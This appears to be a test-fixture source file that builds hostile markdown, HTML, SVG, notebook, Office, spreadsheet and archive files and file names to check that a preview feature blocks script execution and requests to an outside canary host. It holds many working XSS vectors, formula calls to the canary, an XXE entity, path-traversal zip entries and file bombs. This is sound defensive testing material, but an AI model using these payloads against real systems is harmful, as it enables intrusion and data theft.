/** Hostile file contents and names: known ways to run a script or to send a request to another host. */

import { bookFile, hostileBook } from './book-file.js';
import { HUGE_PNG } from './image-files.js';
import { workbookFile } from './workbook-file.js';
import { OFFICE, paragraph, wordFile, zipFile } from './zip-file.js';

export interface Hostile {
  readonly name: string;
  readonly content: string | Uint8Array;
}

/** Attack code: a call that the traps record. */
const RUN = 'zoTrap(1)';

/** `canary` is the address of a server outside the product. */
export function markdownAttacks(canary: string): readonly string[] {
  const links = [
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `java\tscript:${RUN}`,
    `java&#10;script:${RUN}`,
    `&#106;avascript:${RUN}`,
    `&#x6A;&#x61;vascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `\u0001javascript:${RUN}`,
    `%6aavascript:${RUN}`,
    `vbscript:msgbox(1)`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD56b1RyYXAoMSk8L3NjcmlwdD4=`,
    `blob:http://x/1`,
    `file:///etc/passwd`,
    `view-source:javascript:${RUN}`,
    `javascript://%0a${RUN}`,
  ];
  return [
    ...links.map((href) => `[click](<${href}>) and ![x](<${href}>)`),
    ...links.slice(0, 4).map((href) => `[ref][r]\n\n[r]: ${href}`),
    `<script>${RUN}</script>`,
    `<script src="${canary}/s.js"></script>`,
    `<img src=x onerror="${RUN}">`,
    `<img src="${canary}/i.png">`,
    `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="${canary}/frame"></iframe>`,
    `<object data="${canary}/o"></object><embed src="${canary}/e">`,
    `<style>@import "${canary}/c.css"; body{background:url(${canary}/b)}</style>`,
    `<link rel="prefetch" href="${canary}/p"><link rel="dns-prefetch" href="${canary}">` +
      `<link rel=stylesheet href="${canary}/l.css">`,
    `<meta http-equiv="refresh" content="0;url=${canary}/m">`,
    `<base href="${canary}/">`,
    `<form action="${canary}/f"><button formaction="javascript:${RUN}">send</button></form>`,
    `<details open ontoggle="${RUN}">x</details>`,
    `<video poster="${canary}/v"><source src="${canary}/v.mp4" onerror="${RUN}"></video>`,
    `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<a href="javascript:${RUN}" autofocus onfocus="${RUN}" tabindex=1>x</a>`,
    `![remote](${canary}/remote.png)`,
    `![relative](//${new URL(canary).host}/r.png)`,
    `![slashes](/\\${new URL(canary).host}/r.png)`,
    `![ref][c]\n\n[c]: ${canary}/ref.png "t"`,
    `[![nested](${canary}/n.png)](javascript:${RUN})`,
    `<${canary}/auto>`,
    `![x](${canary}/q?d=$(cat))`,
    '```mermaid\ngraph TD; A["<img src=x onerror=zoTrap(1)>"] --> B; click A "javascript:zoTrap(1)"\n```',
    `$$\\href{javascript:${RUN}}{x} \\includegraphics{${canary}/k.png}$$`,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `---\ntitle: <img src=x onerror=${RUN}>\ncover: ${canary}/cover.png\n---\nbody`,
    `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| [x](javascript:${RUN}) | ![](${canary}/t.png) |`,
    `- [ ] <input onfocus=${RUN} autofocus>`,
    `[^1]\n\n[^1]: <img src=x onerror=${RUN}> ![](${canary}/foot.png)`,
    `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  ];
}

const svg = (canary: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}">` +
  `<script>${RUN}</script><image xlink:href="${canary}/svg.png" width="9" height="9"/>` +
  `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${canary}/fo"/></foreignObject></svg>`;
const page = (canary: string) =>
  `<!doctype html><title>x</title><script>${RUN};document.title=document.cookie</script>` +
  `<img src="${canary}/page.png"><link rel=stylesheet href="${canary}/page.css">` +
  `<meta http-equiv=refresh content="0;url=${canary}/away">`;

/** A name as the page shows it: what turns the direction of text is marked. */
export const shownAs = (name: string): string =>
  name.replaceAll(/[\u202a-\u202e\u2066-\u2069]/g, (sign) => `⟨U+${sign.charCodeAt(0).toString(16).toUpperCase()}⟩`);

export const HOSTILE_NAMES: readonly string[] = [
  '<img src=x onerror=zoTrap(1)>.md',
  '"><svg onload=zoTrap(1)>.txt',
  "' onmouseover='zoTrap(1).md",
  '`${zoTrap(1)}`.md',
  '{{zoTrap(1)}}.txt',
  'javascript:zoTrap(1).md',
  '<script>zoTrap(1)<|script>.md',
  '&lt;b&gt;&#x3c;b.md',
  'gnp.\u202etxt.md',
  'new\nline.md',
  '\u2066\u2067isolated\u2069.md',
  'zero\u200bwidth\ufeff.md',
  'tab\there.txt',
  'percent%2f%2e%2e%2fetc.md',
  'question?x=1#hash.md',
  'semi;colon,comma.md',
  '-rf.md',
  ' leading and trailing .md',
  'back\\slash\\..\\x.md',
  '%3Cscript%3EzoTrap(1)%3C%2Fscript%3E.md',
  '__proto__.md',
  'constructor',
  '𝄞☃'.repeat(20) + '.md',
  `${'long '.repeat(40)}.md`,
  '"; filename="evil.html',
];

const notebook = (canary: string) => {
  const html = [
    `<script>${RUN}</script><img src=x onerror=${RUN}><table onclick="${RUN}"><tr><td>`,
    `<img src="${canary}/nb.png"><script>${RUN}</script>1</td></tr></table>`,
  ].join('');
  const data = [
    { 'text/html': html },
    { 'image/svg+xml': svg(canary) },
    { 'image/png': `"><img src=x onerror=${RUN}>` },
    { 'application/javascript': RUN, 'text/plain': 'js' },
    { 'text/markdown': markdownAttacks(canary).join('\n\n') },
  ].map((bundle) => ({ output_type: 'display_data', data: bundle }));
  return JSON.stringify({
    nbformat: 4,
    metadata: { language_info: { name: `<img src=x onerror=${RUN}>` } },
    cells: [
      { cell_type: 'markdown', source: markdownAttacks(canary).join('\n\n') },
      { cell_type: 'code', source: `%%javascript\n${RUN}`, execution_count: 1, outputs: data },
    ],
  });
};

const word = (canary: string) => {
  const styled = `<w:pPr><w:pStyle w:val="x"/></w:pPr>`;
  return wordFile({
    body: [
      paragraph(`&lt;img src=x onerror=${RUN}&gt;`, styled),
      `<w:p><w:hyperlink r:id="js"><w:r><w:t>js</w:t></w:r></w:hyperlink>`,
      `<w:hyperlink r:id="data"><w:r><w:t>data</w:t></w:r></w:hyperlink></w:p>`,
      `<w:altChunk r:id="chunk"/>`,
      `<w:p><w:r><w:pict><v:shape onclick="${RUN}" onload="${RUN}" `,
      `style="position:fixed;inset:0;background:url(${canary}/vml)">`,
      `<v:imagedata r:id="far"/></v:shape></w:pict></w:r></w:p>`,
    ].join(''),
    links: { js: `javascript:${RUN}`, data: `data:text/html,&lt;script&gt;${RUN}&lt;/script&gt;` },
    relations: [
      `<Relationship Id="chunk" Type="${OFFICE}/aFChunk" Target="chunk.html"/>`,
      `<Relationship Id="far" Type="${OFFICE}/image" Target="${canary}/word.png" TargetMode="External"/>`,
    ].join(''),
    files: { 'word/chunk.html': page(canary) },
  });
};

/** A zip whose names attack the page, and the folders beside its own. */
const archive = () =>
  zipFile(Object.fromEntries([...HOSTILE_NAMES, `../../../${RUN}.txt`, `/etc/${RUN}`].map((name) => [name, RUN])));

const sheet = (canary: string) =>
  JSON.stringify({
    worksheets: [
      {
        worksheetName: `<img src=x onerror=${RUN}>`,
        data: [
          [`<img src=x onerror=${RUN}>`, `=WEBSERVICE("${canary}/sheet")`, `=HYPERLINK("javascript:${RUN}","x")`],
          [`=IMAGE("${canary}/i.png")`, `=constructor.constructor("${RUN}")()`, `=__proto__.x(1)`],
        ],
        style: { A1: `background: url(${canary}/s.png); color: url(${canary}/c); position: fixed` },
        cells: { B1: { mask: `"<img src=x onerror=${RUN}>"` }, __proto__: { mask: '0' } },
        minDimensions: [1e9, 1e9],
        freezeRows: 1e9,
      },
    ],
  });

const workbook = (canary: string) => {
  const cells = [`<img src=x onerror=${RUN}>`, `=HYPERLINK("${canary}/x")`, `javascript:${RUN}`, svg(canary)];
  return workbookFile({ [`<img src=x onerror=${RUN}>`.slice(0, 31)]: [cells, cells], "__proto__' onclick=": [cells] });
};

/** At least 60 files: attacks as notes, under a wrong extension, and in the name. */
export function hostileFiles(canary: string): readonly Hostile[] {
  const notes = markdownAttacks(canary).map((content, n) => ({ name: `attack-${n}.md`, content }));
  const other: Hostile[] = [
    { name: 'script.svg', content: svg(canary) },
    { name: 'svg-as.png', content: svg(canary) },
    { name: 'html-as.png', content: page(canary) },
    { name: 'html-as.jpg', content: page(canary) },
    { name: 'html-as.mp4', content: page(canary) },
    { name: 'html-as.mp3', content: page(canary) },
    { name: 'html-as.txt', content: page(canary) },
    { name: 'html-as.csv', content: page(canary) },
    { name: 'page.html', content: page(canary) },
    { name: 'page.htm', content: page(canary) },
    { name: 'page.xhtml', content: page(canary) },
    {
      name: 'page.xml',
      content: `<?xml-stylesheet href="${canary}/x.xsl"?><!DOCTYPE a [<!ENTITY x SYSTEM "${canary}/ent">]><a>&x;</a>`,
    },
    { name: 'attack.ipynb', content: notebook(canary) },
    { name: 'attack.sheet.json', content: sheet(canary) },
    { name: 'attack.docx', content: word(canary) },
    { name: 'bomb.docx', content: wordFile({ body: paragraph(' '.repeat(40_000_000)) }) },
    { name: 'attack.epub', content: hostileBook(canary, RUN) },
    { name: 'bomb.epub', content: bookFile([{ title: 'x', body: ' '.repeat(40_000_000) }]) },
    { name: 'html-as.epub', content: page(canary) },
    { name: 'huge.png', content: HUGE_PNG },
    {
      name: 'html-as.mp4.transcript.jsonl',
      content: `{"start":0,"speaker":"<img src=x onerror=${RUN}>","text":"<script>${RUN}</script>"}`,
    },
    {
      name: 'html-as.vtt',
      content: `WEBVTT\n\n00:00.000 --> 01:00.000\n<img src="${canary}/vtt.png" onerror="${RUN}">`,
    },
    { name: 'attack.zip', content: archive() },
    { name: 'html-as.zip', content: page(canary) },
    { name: 'html-as.tar.gz', content: page(canary) },
    { name: 'html-as.docx', content: page(canary) },
    { name: 'html-as.heic', content: page(canary) },
    { name: 'html-as.ipynb', content: page(canary) },
    { name: 'html-as.woff2', content: page(canary) },
    { name: 'page.pdf', content: page(canary) },
    { name: 'page.json', content: `{"__proto__":{"x":"<img src=x onerror=${RUN}>"}}` },
    { name: 'formula.csv', content: `=HYPERLINK("${canary}/h"),@SUM(1),<img src=x onerror=${RUN}>\n` },
    {
      name: 'attack.jsonl',
      content: `{"<img src=x onerror=${RUN}>":"<img src=${canary}/j.png>","__proto__":"${RUN}"}\n`,
    },
    { name: 'attack.xlsx', content: workbook(canary) },
    { name: 'bomb.xlsx', content: workbookFile({ A: [['x'.repeat(40_000_000)]] }) },
    { name: 'html-as.xlsx', content: page(canary) },
    { name: 'html-as.ods', content: page(canary) },
    { name: 'html-as.db', content: page(canary) },
    { name: 'html-as.parquet', content: page(canary) },
    { name: 'wide.csv', content: `${'<b>,'.repeat(50_000)}\n` },
    { name: 'code.js', content: `</script><script>${RUN}</script>` },
    { name: 'long-line.txt', content: 'x<b>'.repeat(100_000) },
    { name: 'long-line.md', content: '[a]('.repeat(5_000) },
    { name: 'deep.md', content: `${'> '.repeat(800)}deep` },
    { name: 'bidi.txt', content: '\u202eelbisivni\u202c /* \u2066 */ zoTrap' },
    { name: 'nul.txt', content: new Uint8Array([60, 0, 115, 0xff, 0xfe, 62]) },
    { name: 'blob.bin', content: new Uint8Array([0, 1, 2, 3]) },
    { name: 'what.zzz', content: new Uint8Array([0, 9, 8]) },
  ];
  return [
    ...notes,
    ...other,
    ...HOSTILE_NAMES.map((name) => ({ name, content: `# ${name}\n\n<img src=x onerror=${RUN}>` })),
  ];
}
